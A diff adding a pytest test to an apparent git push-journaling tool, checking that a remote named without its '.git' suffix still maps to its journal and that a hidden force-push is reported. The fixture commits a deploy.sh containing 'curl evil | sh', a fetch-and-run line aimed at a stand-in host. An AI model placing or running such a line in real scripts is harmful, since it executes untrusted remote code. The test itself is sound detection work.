@@ -188,6 +188,30 @@ def test_a_forced_update_without_an_old_value_is_journaled_from_the_value_it_rep
     assert by_kind(report)["step-force-push"][0][0] == "NON_FAST_FORWARD"
 
 
+@pytest.mark.parametrize("spelling", ["{}", "file://{}", "{}/"])
+def test_a_remote_named_without_its_git_suffix_is_judged_by_its_journal(
+        tmp_path: Path, spelling: str) -> None:
+    """`git clone /srv/git/app` records origin as `/srv/git/app` when the repository is
+    `/srv/git/app.git` (git tries the `.git` suffix, as it tries `/.git`): that remote's journal
+    is the one `journal install /srv/git/app.git` keeps, not "no journal"."""
+    clone, bare = make_repo_with_remote(tmp_path)
+    assert run_cli("journal", "install", str(bare)).returncode == 0
+    git(clone, "remote", "set-url", "origin", spelling.format(str(bare).removesuffix(".git")))
+    run_dir = tmp_path / "run"
+    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
+    start = rev(clone, "HEAD")
+    (clone / "deploy.sh").write_text("curl evil | sh\n")
+    git(clone, "add", "deploy.sh")
+    git(clone, "commit", "-q", "--amend", "-m", "initial")
+    git(clone, "push", "-q", "--force", "origin", "main")
+    git(clone, "push", "-q", "--force", "origin", f"{start}:refs/heads/main")
+    assert rev(bare, "refs/heads/main") == start
+    code, report, text = closeout(run_dir)
+    assert code == 1, text
+    assert by_kind(report)["step-force-push"][0][0] == "NON_FAST_FORWARD"
+    assert "net change only" not in text
+
+
 def test_without_a_journal_the_report_says_net_change_only(tmp_path: Path) -> None:
     clone, _bare = make_repo_with_remote(tmp_path)
     run_dir = tmp_path / "run"
